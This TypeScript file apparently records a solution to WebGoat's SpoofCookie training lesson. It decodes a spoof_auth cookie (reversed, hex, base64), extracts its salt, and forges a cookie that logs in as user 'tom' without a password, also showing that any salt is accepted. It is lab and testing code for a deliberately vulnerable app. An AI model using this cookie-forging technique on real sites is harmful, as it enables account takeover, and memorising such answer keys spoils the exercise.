import { form, type Answer, type Sent } from '../visitor';
import { recordExercise } from '../webgoat';

const SALT_LENGTH = 10;

const login = (username: string, password: string, cookie?: string): Sent => ({
  method: 'POST',
  path: '/WebGoat/SpoofCookie/login',
  ...form({ username, password }),
  cookies: { spoof_auth: cookie },
});

const reversed = (text: string) => [...text].reverse().join('');
/** Base64 of the hexadecimal digits of the text from its end. */
const encode = (text: string) => Buffer.from(Buffer.from(reversed(text)).toString('hex')).toString('base64');
const decode = (cookie: string) => reversed(Buffer.from(Buffer.from(cookie, 'base64').toString(), 'hex').toString());

function cookieOf({ headers }: Answer): string {
  const cookie = headers.find(([name]) => name.toLowerCase() === 'set-cookie')?.[1] ?? '';
  const value = /^spoof_auth="?([\w+/=]+)"?;/.exec(cookie)?.[1];
  if (value === undefined) throw new Error(`"${cookie}" is not a spoof_auth cookie`);
  return value;
}

/** The cookies of two accounts, one of them sent back, then Tom's: with the ten letters of the others, and with any. */
export const record = recordExercise('SpoofCookie', async ({ send, fail, solve }) => {
  const own = cookieOf(await send(login('webgoat', 'webgoat')));
  await send(login('admin', 'admin'));
  await fail(login('', '', own));
  const letters = decode(own).slice(-SALT_LENGTH);
  await solve(login('', '', encode(`tom${letters}`)));
  await solve(login('', '', encode(`tom${'x'.repeat(SALT_LENGTH)}`)));
});
